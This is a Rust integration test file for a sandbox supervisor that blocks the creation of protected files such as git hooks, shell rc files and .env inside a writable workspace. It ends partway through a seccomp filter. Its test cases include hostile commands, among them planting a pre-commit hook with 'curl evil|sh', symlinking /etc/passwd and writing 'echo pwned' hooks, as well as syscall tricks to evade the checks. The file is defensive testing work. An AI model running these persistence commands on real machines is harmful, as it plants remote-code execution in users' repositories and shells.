//! Deny inside an allowed directory, for files created after launch: the create-deny
//! supervisor (`launcher/src/supervise.rs`) against the real kernel, through `greywall exec`
//! with a policy, in a scratch workspace with its own HOME and cache.
//!
//! Every refusal below is also a creation that works without the supervisor (the workspace is
//! writable); the tests check that nothing was created on the host, not only the error.
//!
//! A test whose kernel feature is missing prints `SKIP: <reason>`; with
//! `GREYWALL_REQUIRE_KERNEL=1` it fails instead.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod common;

use std::io::{BufRead, BufReader};
use std::os::unix::process::ExitStatusExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

use greywall_compiler::backend::seccomp;
use greywall_compiler::backend::seccomp::{Arch, SECCOMP_RET_ALLOW, SECCOMP_RET_ERRNO, SockFilter};
use greywall_compiler::plan::{CreateDeny, Landlock, LinuxPlan, Network};

const GREYWALL: &str = env!("CARGO_BIN_EXE_greywall");
const PROBE: &str = env!("CARGO_BIN_EXE_greywall-probe");
const PYTHON: &str = "/usr/bin/python3";
const PATH: &str = "/usr/local/bin:/usr/bin:/bin";

/// The workspace is writable; `*.key` files must not be written.
const POLICY: &str = r#"{"filesystem": {"allowWrite": ["."], "denyWrite": ["**/*.key"]}}"#;

/// A scratch directory: `home/`, `cache/`, the policy, and the workspace `ws/`, outside /tmp
/// (the sandbox's /tmp is private).
struct Scratch {
    dir: tempfile::TempDir,
}

impl Scratch {
    fn new(policy: &str) -> Scratch {
        let dir = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
        for d in ["home", "cache", "ws"] {
            std::fs::create_dir(dir.path().join(d)).unwrap();
        }
        std::fs::write(dir.path().join("policy.json"), policy).unwrap();
        Scratch { dir }
    }

    fn ws(&self) -> PathBuf {
        self.dir.path().join("ws")
    }

    fn at(&self, rel: &str) -> PathBuf {
        self.ws().join(rel)
    }

    fn write(&self, rel: &str, text: &str) {
        let p = self.at(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, text).unwrap();
    }

    /// `greywall exec -s policy.json -- ARGV` in the workspace.
    fn command(&self, argv: &[&str]) -> Command {
        let mut cmd = Command::new(GREYWALL);
        cmd.arg("exec")
            .arg("-s")
            .arg(self.dir.path().join("policy.json"))
            .arg("--")
            .args(argv);
        self.environment(&mut cmd);
        cmd
    }

    /// The workspace, a clean environment with the scratch home and cache.
    fn environment(&self, cmd: &mut Command) {
        cmd.current_dir(self.ws())
            .env_clear()
            .env("HOME", self.dir.path().join("home"))
            .env("XDG_CACHE_HOME", self.dir.path().join("cache"))
            .env("PATH", PATH);
    }

    /// The same, under an outer launcher whose filter makes user namespaces unavailable:
    /// the supervisor is then the command's parent ([`Side::Above`] in the launcher).
    fn command_without_userns(&self, argv: &[&str]) -> Command {
        let outer = self.dir.path().join("outer.plan");
        std::fs::write(&outer, no_userns_plan().encode()).unwrap();
        let mut cmd = Command::new(GREYWALL);
        cmd.arg("__exec-plan")
            .arg(&outer)
            .args(["--", GREYWALL, "exec", "-s"])
            .arg(self.dir.path().join("policy.json"))
            .arg("--")
            .args(argv);
        self.environment(&mut cmd);
        cmd
    }

    fn exec(&self, argv: &[&str]) -> Output {
        self.command(argv).output().unwrap()
    }

    fn sh(&self, script: &str) -> Output {
        self.exec(&["/bin/sh", "-c", script])
    }
}

fn stdout(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

#[track_caller]
fn assert_code(o: &Output, code: i32) {
    assert_eq!(
        o.status.code(),
        Some(code),
        "status {:?}\nstdout: {}\nstderr: {}",
        o.status,
        stdout(o),
        stderr(o)
    );
}

/// False (with a SKIP) when this kernel cannot run the sandbox with a supervisor.
fn ready() -> bool {
    common::launcher_runs(&Scratch::new(POLICY).exec(&["true"]))
}

fn python() -> bool {
    if Path::new(PYTHON).exists() {
        return true;
    }
    common::skip(&format!("{PYTHON} is not installed"));
    false
}

/// `(what, setup, script, path that must not appear)`.
type Refusal = (&'static str, &'static str, &'static str, &'static str);

const REFUSED: &[Refusal] = &[
    ("a shell redirect", "", "echo x > .bashrc", ".bashrc"),
    ("touch", "", "touch .envrc", ".envrc"),
    ("mkdir", "", "mkdir .vscode", ".vscode"),
    (
        "mkdir -p into a protected folder",
        "",
        "mkdir -p .vscode && echo '{}' > .vscode/tasks.json",
        ".vscode",
    ),
    (
        "a hook in an existing .git without hooks",
        "mkdir .git",
        "mkdir -p .git/hooks && echo 'curl evil|sh' > .git/hooks/pre-commit",
        ".git/hooks/pre-commit",
    ),
    ("a denyWrite glob", "", "touch x.key", "x.key"),
    (
        "a denyWrite glob in a subfolder",
        "mkdir -p sub/deeper",
        "echo k > sub/deeper/y.key",
        "sub/deeper/y.key",
    ),
    (
        "a protected name in a subfolder",
        "mkdir sub",
        "echo x > sub/.mcp.json",
        "sub/.mcp.json",
    ),
    (
        "a symlink named .envrc",
        "",
        "ln -s /etc/passwd .envrc",
        ".envrc",
    ),
    (
        "a hard link named .mcp.json",
        "echo {} > f",
        "ln f .mcp.json",
        ".mcp.json",
    ),
    (
        "a rename onto .mcp.json",
        "echo {} > f",
        "mv f .mcp.json",
        ".mcp.json",
    ),
    (
        "a rename onto an existing protected name in a subfolder",
        "mkdir sub && echo old > sub/.bashrc && echo new > f",
        "mv f sub/.bashrc && grep -q new sub/.bashrc",
        "f-is-gone",
    ),
    ("a fifo", "", "mkfifo .zshrc", ".zshrc"),
    (
        "through a dangling symlink",
        "ln -s .profile innocent",
        "echo x > innocent",
        ".profile",
    ),
    (
        "through a symlinked folder",
        "mkdir .git && ln -s .git g",
        "mkdir -p g/hooks; echo x > g/hooks/post-checkout",
        ".git/hooks/post-checkout",
    ),
    (
        "with .. from a subfolder",
        "mkdir sub",
        "cd sub && echo x > ../.inputrc",
        ".inputrc",
    ),
    (
        "through /proc/self/cwd",
        "",
        "echo x > /proc/self/cwd/.gitmodules",
        ".gitmodules",
    ),
    (
        "a folder renamed to .git around hooks",
        "mkdir -p d/hooks",
        "mv d .git",
        ".git",
    ),
    (
        "greywall.json",
        "",
        "echo {} > greywall.json",
        "greywall.json",
    ),
    ("a secret .env", "", "echo A=1 > .env", ".env"),
];

#[test]
fn protected_new_paths_cannot_be_created() {
    if !ready() {
        return;
    }
    let mut failures = Vec::new();
    for (what, setup, script, path) in REFUSED {
        let s = Scratch::new(POLICY);
        if !setup.is_empty() {
            let o = Command::new("/bin/sh")
                .args(["-c", setup])
                .current_dir(s.ws())
                .output()
                .unwrap();
            assert_code(&o, 0);
        }
        let o = s.sh(script);
        let err = stderr(&o);
        let created = if *path == "f-is-gone" {
            !s.at("f").exists()
        } else {
            std::fs::symlink_metadata(s.at(path)).is_ok()
        };
        if o.status.code() == Some(0) || !err.contains("Permission denied") || created {
            failures.push(format!(
                "{what} ({script}): status {:?}, created {created}, stderr {err:?}",
                o.status
            ));
        }
    }
    assert!(failures.is_empty(), "not refused:\n{}", failures.join("\n"));
}

#[test]
fn python_open_is_refused() {
    if !ready() || !python() {
        return;
    }
    let s = Scratch::new(POLICY);
    let o = s.exec(&[PYTHON, "-c", "open('.mcp.json', 'w')"]);
    assert_code(&o, 1);
    assert!(
        stderr(&o).contains("PermissionError: [Errno 13] Permission denied: '.mcp.json'"),
        "{}",
        stderr(&o)
    );
    assert!(!s.at(".mcp.json").exists());
}

/// The syscalls and arguments a shell does not reach: `openat2` (in and out of a root), a
/// directory descriptor, `/proc/self/fd`, `O_EXCL`, `O_TMPFILE` linked into place (refused
/// before Landlock's own `EXDEV` for links through `/proc`),
/// `renameat2(RENAME_EXCHANGE)`, `mknod`, threads, unreadable and over-long paths.
#[test]
fn every_creating_syscall_is_checked() {
    if !ready() || !python() {
        return;
    }
    let s = Scratch::new(POLICY);
    s.write("sub/.bashrc", "old\n");
    s.write("evil", "new\n");
    let script = r#"
import ctypes, errno, os, stat, threading
libc = ctypes.CDLL(None, use_errno=True)
class How(ctypes.Structure):
    _fields_ = [("flags", ctypes.c_uint64), ("mode", ctypes.c_uint64), ("resolve", ctypes.c_uint64)]
def openat2(dirfd, path, flags, resolve=0):
    how = How(flags, 0o644 if flags & os.O_CREAT else 0, resolve)
    r = libc.syscall(437, dirfd, path, ctypes.byref(how), ctypes.sizeof(how))
    if r < 0:
        raise OSError(ctypes.get_errno(), "openat2")
    os.close(r)
def renameat2(a, b, flags):
    if libc.renameat2(-100, a, -100, b, flags) < 0:
        raise OSError(ctypes.get_errno(), "renameat2")
def creat(path):
    os.close(os.open(path, os.O_CREAT | os.O_WRONLY, dir_fd=ws))
def in_thread(f):
    box = []
    def run():
        try:
            f()
        except OSError as e:
            box.append(e)
    t = threading.Thread(target=run); t.start(); t.join()
    if box:
        raise box[0]
ws = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
W, C = os.O_WRONLY, os.O_CREAT
tests = [
    ("openat2", lambda: openat2(-100, b".mcp.json", C | W)),
    ("openat2 in root", lambda: openat2(ws, b"/../.mcp.json", C | W, 0x10)),
    ("openat2 plain", lambda: openat2(-100, b"plain-openat2", C | W)),
    ("openat2 no O_CREAT", lambda: openat2(-100, b"plain-openat2", os.O_RDONLY)),
    ("dirfd", lambda: creat(".envrc")),
    ("proc fd", lambda: os.close(os.open("/proc/self/fd/%d/.envrc" % ws, C | W))),
    ("O_EXCL", lambda: os.close(os.open(".bashrc", C | os.O_EXCL | W))),
    ("O_TMPFILE linked", lambda: os.link("/proc/self/fd/%d" % os.open(".", os.O_TMPFILE | W), ".mcp.json")),
    ("exchange", lambda: renameat2(b"evil", b"sub/.bashrc", 2)),
    ("mknod", lambda: os.mknod(".zshenv", 0o600 | stat.S_IFREG)),
    ("thread", lambda: in_thread(lambda: creat(".idea"))),
    ("thread plain", lambda: in_thread(lambda: creat("plain-thread"))),
    ("symlink to a folder as .git", lambda: os.symlink("sub", ".git")),
    ("bad pointer", lambda: libc.mkdir(ctypes.c_void_p(8), 0o755) == 0 or (_ for _ in ()).throw(OSError(ctypes.get_errno(), "mkdir"))),
    ("too long", lambda: os.mkdir("a" * 5000)),
]
for name, f in tests:
    try:
        f()
        print(name, "ok")
    except OSError as e:
        print(name, errno.errorcode[e.errno])
"#;
    let o = s.exec(&[PYTHON, "-c", script]);
    assert_code(&o, 0);
    assert_eq!(
        stdout(&o),
        "openat2 EACCES
openat2 in root EACCES
openat2 plain ok
openat2 no O_CREAT ok
dirfd EACCES
proc fd EACCES
O_EXCL EACCES
O_TMPFILE linked EACCES
exchange EACCES
mknod EACCES
thread EACCES
thread plain ok
symlink to a folder as .git EACCES
bad pointer EFAULT
too long ENAMETOOLONG
",
        "{}",
        stderr(&o)
    );
    let mut names: Vec<String> = std::fs::read_dir(s.ws())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    assert_eq!(names, ["evil", "plain-openat2", "plain-thread", "sub"]);
    assert_eq!(
        std::fs::read_to_string(s.at("sub/.bashrc")).unwrap(),
        "old\n"
    );
}

/// Protected files that exist deeper than the working directory (`sub/.bashrc`, a nested
/// repository's hook, `sub/.vscode/settings.json`, `sub/.env`): no mount covers them, so the
/// supervisor refuses opening them for writing, truncating them and linking them to a new
/// name, by every path that leads to them. They stay readable and unchanged, and ordinary
/// files next to them stay writable.
const DEEP: &[(&str, &str)] = &[
    ("sub/.bashrc", "# rc\n"),
    ("sub/.vscode/settings.json", "{}\n"),
    ("sub/.git/hooks/pre-commit", "#!/bin/sh\nexit 0\n"),
    ("sub/.env", "API_KEY=secret\n"),
];

/// Writes (each a `sh -c` script with `$F` the protected file) that must all be refused.
const DEEP_WRITES: &[&str] = &[
    "echo evil >> \"$F\"",
    "echo evil > \"$F\"",
    "truncate -s0 \"$F\"",
    "python3 -c 'import sys; open(sys.argv[1], \"r+\").write(\"evil\")' \"$F\"",
    // Reopened for writing through the descriptor of a read-only open.
    "exec 3< \"$F\" && echo evil >> /proc/self/fd/3",
    "exec 3< \"$F\" && echo evil >> /dev/fd/3",
    "exec 3< \"$F\" && echo evil >> /proc/$$/fd/3",
    // Through a symlink and through `..`.
    "ln -s \"$PWD/$F\" innocent && echo evil >> innocent",
    "mkdir -p d && cd d && echo evil >> \"../$F\"",
    // A hard link to write through.
    "ln \"$F\" innocent",
];

fn deep_scratch() -> Scratch {
    let s = Scratch::new(POLICY);
    for (rel, text) in DEEP {
        s.write(rel, text);
    }
    s.write("sub/plain.txt", "plain\n");
    s.write("sub/.git/HEAD", "ref: refs/heads/main\n");
    s.write("sub/.git/hooks/pre-commit.sample", "#!/bin/sh\n");
    common::copy_exe(PROBE, &s.at("probe"));
    s
}

#[test]
fn existing_protected_files_deeper_down_cannot_be_written() {
    if !ready() || !python() {
        return;
    }
    let s = deep_scratch();
    let mut failures = Vec::new();
    for (rel, text) in DEEP {
        for script in DEEP_WRITES {
            let o = s
                .command(&["/bin/sh", "-c", script])
                .env("F", rel)
                .output()
                .unwrap();
            let now = std::fs::read_to_string(s.at(rel)).unwrap();
            let linked = s.at("innocent").exists()
                && std::fs::symlink_metadata(s.at("innocent"))
                    .is_ok_and(|m| !m.file_type().is_symlink());
            if o.status.code() == Some(0)
                || !stderr(&o).contains("Permission denied")
                || now != *text
                || linked
            {
                failures.push(format!(
                    "{rel}: {script}: status {:?}, now {now:?}, hard link made {linked}, \
                     stderr {:?}",
                    o.status,
                    stderr(&o)
                ));
            }
            // Each write starts from the original file, refused or not.
            let _ = std::fs::remove_file(s.at("innocent"));
            s.write(rel, text);
        }
        // O_WRONLY without O_CREAT (the probe's `write`), and the other open flags.
        let o = s.exec(&["./probe", "write", rel, "read", rel]);
        assert_code(&o, 0);
        let want = format!("write {rel} EACCES\nread {rel} ok\n");
        if stdout(&o) != want {
            failures.push(format!("{rel}: probe: {:?}", stdout(&o)));
        }
        s.write(rel, text);
        let script = r#"
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
class How(ctypes.Structure):
    _fields_ = [("flags", ctypes.c_uint64), ("mode", ctypes.c_uint64), ("resolve", ctypes.c_uint64)]
def openat2(path, flags):
    how = How(flags, 0, 0)
    r = libc.syscall(437, -100, path.encode(), ctypes.byref(how), ctypes.sizeof(how))
    if r < 0:
        raise OSError(ctypes.get_errno(), "openat2")
    os.close(r)
f = sys.argv[1]
for name, op in [
    ("O_RDWR", lambda: os.close(os.open(f, os.O_RDWR))),
    ("O_RDONLY|O_TRUNC", lambda: os.close(os.open(f, os.O_RDONLY | os.O_TRUNC))),
    ("O_CREAT|O_WRONLY", lambda: os.close(os.open(f, os.O_CREAT | os.O_WRONLY))),
    ("openat2 O_WRONLY", lambda: openat2(f, os.O_WRONLY)),
    ("truncate", lambda: os.truncate(f, 0)),
    ("O_RDONLY", lambda: print(open(f).read(), end="")),
]:
    try:
        op()
        print(name, "ok")
    except OSError as e:
        print(name, os.strerror(e.errno))
"#;
        let o = s.exec(&[PYTHON, "-c", script, rel]);
        assert_code(&o, 0);
        let want = format!(
            "O_RDWR Permission denied\nO_RDONLY|O_TRUNC Permission denied\n\
             O_CREAT|O_WRONLY Permission denied\nopenat2 O_WRONLY Permission denied\n\
             truncate Permission denied\n{text}O_RDONLY ok\n"
        );
        if stdout(&o) != want {
            failures.push(format!("{rel}: python: {:?} {:?}", stdout(&o), stderr(&o)));
        }
        let now = std::fs::read_to_string(s.at(rel)).unwrap();
        if now != *text {
            failures.push(format!("{rel}: python: now {now:?}"));
        }
    }
    assert!(failures.is_empty(), "not refused:\n{}", failures.join("\n"));
}

/// Next to the protected files, ordinary files are written as usual, and writing through a
/// descriptor's magic link works for what is not protected (a file, a pipe).
#[test]
fn ordinary_files_next_to_protected_ones_stay_writable() {
    if !ready() {
        return;
    }
    let s = deep_scratch();
    // Standard output is a file in the workspace: /dev/stdout leads there.
    let log = s.at("out.log");
    let o = s
        .command(&[
            "/bin/sh",
            "-c",
            "echo more >> sub/plain.txt && echo 1 > sub/.git/HEAD && truncate -s0 sub/.git/HEAD \
             && echo x >> sub/.git/hooks/pre-commit.sample && echo note > sub/.vscode-notes \
             && exec 3< sub/plain.txt && echo again >> /proc/self/fd/3 \
             && echo to-stdout >> /dev/stdout && echo piped | cat > /dev/stderr \
             && ./probe write sub/plain.txt",
        ])
        .stdout(
            std::fs::File::options()
                .create(true)
                .append(true)
                .open(&log)
                .unwrap(),
        )
        .output()
        .unwrap();
    assert_code(&o, 0);
    assert_eq!(
        std::fs::read_to_string(&log).unwrap(),
        "to-stdout\nwrite sub/plain.txt ok\n"
    );
    assert!(stderr(&o).ends_with("piped\n"), "{}", stderr(&o));
    assert_eq!(
        std::fs::read_to_string(s.at("sub/plain.txt")).unwrap(),
        "plain\nmore\nagain\n"
    );
    assert_eq!(std::fs::read_to_string(s.at("sub/.git/HEAD")).unwrap(), "");
    assert!(s.at("sub/.vscode-notes").is_file());
}

#[test]
fn ordinary_files_are_created_as_usual() {
    if !ready() {
        return;
    }
    let s = Scratch::new(POLICY);
    common::copy_exe(PROBE, &s.at("probe"));
    let o = s.sh(
        "mkdir -p src a/b/c && echo 'fn main() {}' > src/new.rs && echo '# hi' > README.md \
         && echo 1 > tmp && mv tmp final && ln -s final link && ln final hard \
         && echo 2 >> link && mkdir .git && touch .gitignore .bashrc.bak notes.keys \
         && echo x > /tmp/private && echo x > /dev/null && cat hard \
         && grep Seccomp_filters: /proc/self/status && ./probe unshare-user",
    );
    assert_code(&o, 0);
    // Under the supervisor: one filter, the notify program (which carries the main filter's
    // decisions as well: no nested user namespace).
    assert_eq!(
        stdout(&o),
        "1\n2\nSeccomp_filters:\t1\nunshare-user - EPERM\n"
    );
    for p in [
        "src/new.rs",
        "README.md",
        "a/b/c",
        "final",
        "link",
        "hard",
        ".git",
        ".gitignore",
        ".bashrc.bak",
        "notes.keys",
    ] {
        assert!(
            std::fs::symlink_metadata(s.at(p)).is_ok(),
            "{p} missing: {}",
            stderr(&o)
        );
    }
    assert!(!s.at("tmp").exists());
}

/// `.git/hooks` is protected everywhere below the workspace, and the workspace's own
/// `.git/config` unless `allowGitConfig`. `git init` of a nested repository works: its
/// template hooks are `*.sample` files, which git never runs; a real hook cannot be planted
/// by writing, renaming or linking. The workspace's own repository needs `allowGitConfig`.
#[test]
fn git_init_follows_the_policy() {
    if !ready() {
        return;
    }
    let s = Scratch::new(POLICY);
    let o = s.sh("git init -q nested && git -C nested status --short");
    assert_code(&o, 0);
    assert!(s.at("nested/.git/hooks/pre-commit.sample").is_file());
    for attack in [
        "echo 'echo pwned' > nested/.git/hooks/pre-commit",
        "mv nested/.git/hooks/pre-commit.sample nested/.git/hooks/pre-commit",
        "ln nested/.git/hooks/pre-commit.sample nested/.git/hooks/pre-commit",
        "ln -s pre-commit.sample nested/.git/hooks/pre-commit",
    ] {
        let o = s.sh(attack);
        assert_ne!(o.status.code(), Some(0), "{attack}");
        assert!(!s.at("nested/.git/hooks/pre-commit").exists(), "{attack}");
    }

    let o = s.sh("git -c init.templateDir= init -q nested2 && git -C nested2 status --short");
    assert_code(&o, 0);
    assert!(s.at("nested2/.git/config").is_file());

    let o = s.sh("git -c init.templateDir= init -q .");
    assert_ne!(o.status.code(), Some(0));
    assert!(
        stderr(&o).contains("config") && stderr(&o).contains("Permission denied"),
        "{}",
        stderr(&o)
    );
    // The launcher says which path its policy refused, and what would allow it.
    let config = s.at(".git/config");
    assert!(
        // git writes `config.lock`, then renames it onto `config`.
        stderr(&o).contains(&format!(
            "greywall: refused renaming onto {}: protected by the sandbox's policy",
            config.display()
        )) && stderr(&o)
            .contains("`filesystem.allowGitConfig` lifts greywall's own `.git/config` protection"),
        "{}",
        stderr(&o)
    );
    assert!(!s.at(".git/config").exists());

    let allowed = Scratch::new(r#"{"filesystem": {"allowWrite": ["."], "allowGitConfig": true}}"#);
    let o = allowed.sh("git -c init.templateDir= init -q . && git config user.name x");
    assert_code(&o, 0);
    assert!(allowed.at(".git/config").is_file());
    assert!(!allowed.at(".git/hooks").exists());
}

/// An existing repository: its hooks and config are read-only mounts. The supervisor keeps
/// the kernel's answers for them (`EEXIST`, `EROFS`, `EBUSY`), lets git work, and refuses to
/// move `.git` away, which would leave the place of both free.
#[test]
fn existing_protected_paths_stay_in_place() {
    if !ready() {
        return;
    }
    let s = Scratch::new(POLICY);
    let o = Command::new("git")
        .args(["init", "-q"])
        .current_dir(s.ws())
        .env("PATH", PATH)
        .output()
        .unwrap();
    assert_code(&o, 0);
    assert!(s.at(".git/hooks").is_dir() && s.at(".git/config").is_file());
    let sh = |script: &str| {
        let o = s.sh(script);
        (o.status.code(), stderr(&o))
    };
    let (code, err) = sh("mkdir -p .git/hooks");
    assert_eq!(code, Some(0), "{err}");
    let (code, err) = sh("echo x > .git/hooks/pre-commit");
    assert!(
        code != Some(0) && err.contains("Read-only file system"),
        "{err}"
    );
    // A mount point: `EBUSY`, or `EXDEV` when its folder is a mount point too, after which
    // mv copies and then cannot remove the originals.
    let (code, err) = sh("mv .git/hooks hooks-away");
    assert!(
        code != Some(0)
            && (err.contains("Device or resource busy") || err.contains("Read-only file system")),
        "{err}"
    );
    assert!(s.at(".git/hooks/pre-commit.sample").is_file());
    let (code, err) = sh("mv .git git-away");
    assert!(
        code != Some(0) && err.contains("Permission denied"),
        "{err}"
    );
    let (code, err) = sh("mv . ../ws-away");
    assert!(code != Some(0), "{err}");
    assert!(s.at(".git/config").is_file() && !s.at("git-away").exists());
    let o = s.sh("rm -rf hooks-away && echo hello > f && git add f \
         && git -c user.name=t -c user.email=t@t commit -qm one \
         && git mv f g && git -c user.name=t -c user.email=t@t commit -qm two \
         && git log --oneline | wc -l && git status --short");
    assert_code(&o, 0);
    assert_eq!(stdout(&o), "2\n");
}

/// Each refused path is named once on the command's standard error, the first three of them;
/// then one line says the rest are not shown, however many more the command tries.
#[test]
fn refusals_are_named_a_few_times() {
    if !ready() {
        return;
    }
    let s = Scratch::new(POLICY);
    let o = s.sh(
        "for i in 1 2 3 4 5 6 7 8; do echo x > $i.key; echo x > $i.key; done 2>/dev/null; \
         touch plain.txt",
    );
    assert_code(&o, 0);
    let err = stderr(&o);
    let lines: Vec<&str> = err
        .lines()
        .filter(|l| l.starts_with("greywall: refused") || l.starts_with("greywall: further"))
        .collect();
    let named: Vec<String> = (1..=3)
        .map(|i| {
            format!(
                "greywall: refused creating {}: protected by the sandbox's policy \
                 (`greywall explain write {0}` names the rule)",
                s.at(&format!("{i}.key")).display()
            )
        })
        .collect();
    let expected: Vec<&str> = named
        .iter()
        .map(String::as_str)
        .chain(["greywall: further refusals by the sandbox's policy are not shown"])
        .collect();
    assert_eq!(lines, expected, "{err}");
    assert!(!s.at("1.key").exists() && s.at("plain.txt").exists());
}

#[test]
fn exit_status_is_the_commands_own() {
    if !ready() {
        return;
    }
    let s = Scratch::new(POLICY);
    assert_code(&s.sh("exit 7"), 7);
    assert_code(&s.sh("exit 0"), 0);
    // The launcher became the command (the supervisor runs beside it): a signal death is the
    // caller's to see, as if the command had run bare.
    let o = s.sh("kill -TERM $$");
    assert_eq!(o.status.signal(), Some(libc::SIGTERM), "{:?}", o.status);
    let o = s.sh("kill -KILL $$");
    assert_eq!(o.status.signal(), Some(libc::SIGKILL), "{:?}", o.status);
    // The launcher's own failures keep their codes.
    assert_code(&s.exec(&["no-such-command-xyz"]), 127);
}

#[test]
fn exit_status_propagates_through_a_supervisor_above() {
    if !ready() {
        return;
    }
    let s = Scratch::new(POLICY);
    let run = |script: &str| {
        s.command_without_userns(&["/bin/sh", "-c", script])
            .output()
            .unwrap()
    };
    assert_code(&run("exit 7"), 7);
    // The supervisor exits as shells report a signal death.
    assert_code(&run("kill -TERM $$"), 128 + libc::SIGTERM);
    assert_code(&run("kill -KILL $$"), 128 + libc::SIGKILL);
}

/// Spawns `script` and reads its first line.
fn spawn(
    mut cmd: Command,
) -> (
    std::process::Child,
    BufReader<std::process::ChildStdout>,
    String,
) {
    let mut child = cmd
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let mut out = BufReader::new(child.stdout.take().unwrap());
    let mut first = String::new();
    out.read_line(&mut first).unwrap();
    (child, out, first.trim().to_string())
}

const TRAP_TERM: &str = "trap 'echo got-term; exit 3' TERM; echo $$; while :; do sleep 0.05; done";

#[test]
fn signals_reach_the_command_first_hand() {
    if !ready() {
        return;
    }
    let s = Scratch::new(POLICY);
    let (mut child, mut out, first) = spawn(s.command(&["/bin/sh", "-c", TRAP_TERM]));
    let command: u32 = first.parse().unwrap();
    if command != child.id() {
        signal(command, "KILL");
        signal(child.id(), "KILL");
        panic!(
            "greywall ({}) stands between the caller and the command ({command})",
            child.id()
        );
    }
    signal(child.id(), "TERM");
    let status = child.wait().unwrap();
    let mut rest = String::new();
    std::io::Read::read_to_string(&mut out, &mut rest).unwrap();
    assert_eq!(rest, "got-term\n");
    assert_eq!(status.code(), Some(3), "{status:?}");
}

#[test]
fn sigterm_to_a_supervisor_above_reaches_the_command() {
    if !ready() {
        return;
    }
    let s = Scratch::new(POLICY);
    let (mut child, mut out, first) =
        spawn(s.command_without_userns(&["/bin/sh", "-c", TRAP_TERM]));
    let command: u32 = first.parse().unwrap();
    if command == child.id() {
        signal(command, "KILL");
        panic!("no supervisor: greywall is the command itself");
    }
    signal(child.id(), "TERM");
    let status = child.wait().unwrap();
    let mut rest = String::new();
    std::io::Read::read_to_string(&mut out, &mut rest).unwrap();
    assert_eq!(rest, "got-term\n");
    assert_eq!(status.code(), Some(3), "{status:?}");
}

fn signal(pid: u32, name: &str) {
    let o = Command::new("kill")
        .arg(format!("-{name}"))
        .arg(pid.to_string())
        .output()
        .unwrap();
    assert_code(&o, 0);
}

#[test]
fn the_command_dies_with_a_supervisor_above() {
    if !ready() {
        return;
    }
    let s = Scratch::new(POLICY);
    let (mut child, _out, first) = spawn(s.command_without_userns(&[
        "/bin/sh",
        "-c",
        "echo $$; while :; do sleep 0.05; done",
    ]));
    let command: i32 = first.parse().unwrap();
    assert!(common::alive(command.unsigned_abs()));
    let supervisor = i32::try_from(child.id()).unwrap();
    if command == supervisor {
        signal(child.id(), "KILL");
        panic!("no supervisor: greywall is the command itself");
    }
    signal(child.id(), "KILL");
    child.wait().unwrap();
    let start = Instant::now();
    while common::alive(command.unsigned_abs()) && start.elapsed() < Duration::from_secs(10) {
        std::thread::sleep(Duration::from_millis(20));
    }
    let survived = common::alive(command.unsigned_abs());
    if survived {
        signal(command.unsigned_abs(), "KILL");
    }
    assert!(!survived, "the command outlived its supervisor");
}

/// The supervisor beside the command `s` runs: the other process with the launcher's command
/// line (which names the scratch directory). Its fdinfo would name the command exactly, but
/// the supervisor is not dumpable, so only root could read it.
fn supervisor_of(s: &Scratch, command: u32) -> Option<u32> {
    let policy = s.dir.path().join("policy.json");
    let policy = policy.to_str()?;
    common::processes()
        .into_iter()
        .find(|p| {
            p.pid != command
                && !p.zombie
                && p.argv.first().is_some_and(|w| w.ends_with("greywall"))
                && p.argv.iter().any(|w| w == policy)
        })
        .map(|p| p.pid)
}

#[test]
fn a_killed_supervisor_leaves_the_sandbox_closed() {
    if !ready() {
        return;
    }
    let s = Scratch::new(POLICY);
    // The command waits for a line on stdin, then tries to create an ordinary file and a
    // protected one.
    // The supervisor the launcher forks itself (the namespace pool's are tested in nspool.rs).
    let mut cmd = s.command(&[
        "/bin/sh",
        "-c",
        &format!("echo $$; {}", common::CREATE_AFTER_A_LINE),
    ]);
    cmd.env("GREYWALL_NS_POOL", "0");
    let (mut child, mut out, first) = spawn(cmd);
    assert_eq!(first.parse::<u32>().unwrap(), child.id());
    let supervisor = supervisor_of(&s, child.id()).expect("no supervisor beside the command");
    let rest = common::kill_then_continue(supervisor, &mut child, &mut out);
    // Nobody answers the filter's questions: every create fails (ENOSYS), none slips through.
    assert_eq!(rest, "end\n");
    assert!(!s.at("plain").exists() && !s.at(".bashrc").exists());
}

#[test]
fn the_supervisor_outlives_the_command_for_its_descendants() {
    if !ready() {
        return;
    }
    let s = Scratch::new(POLICY);
    // The command ends at once; a background descendant creates files a little later.
    let o = s
        .command(&[
            "/bin/sh",
            "-c",
            "(sleep 0.3; echo x > late-plain; echo x > .bashrc) >/dev/null 2>&1 & echo started",
        ])
        .output()
        .unwrap();
    assert_code(&o, 0);
    let start = Instant::now();
    while !s.at("late-plain").exists() && start.elapsed() < Duration::from_secs(10) {
        std::thread::sleep(Duration::from_millis(20));
    }
    std::thread::sleep(Duration::from_millis(200));
    assert!(
        s.at("late-plain").is_file(),
        "the descendant could not create an ordinary file"
    );
    assert!(
        !s.at(".bashrc").exists(),
        "the descendant created .bashrc unsupervised"
    );
}

#[test]
fn the_caller_does_not_wait_for_the_supervisor() {
    if !ready() {
        return;
    }
    let s = Scratch::new(POLICY);
    // `output()` reads stdout and stderr to their ends before it waits: it returns only
    // once nothing holds them, so a supervisor that kept them would hold it for its life.
    let started = Instant::now();
    let o = s
        .command(&[
            "/bin/sh",
            "-c",
            "(sleep 3) >/dev/null 2>&1 </dev/null & echo quick",
        ])
        .output()
        .unwrap();
    assert_code(&o, 0);
    assert_eq!(stdout(&o), "quick\n");
    assert!(
        started.elapsed() < Duration::from_millis(2500),
        "the caller waited {:?} for the command's descendant",
        started.elapsed()
    );
}

/// A plan for an outer launcher that only loads a filter failing `unshare` with `EPERM`, so
/// that the greywall inside it runs without user namespaces.
fn no_userns_plan() -> LinuxPlan {
    let arch = Arch::host().unwrap().audit_arch();
    let f = |code, jt, jf, k| SockFilter { code, jt, jf, k };
    let unshare = u32::try_from(libc::SYS_unshare).unwrap();
    let prog = [
        f(0x20, 0, 0, 4),
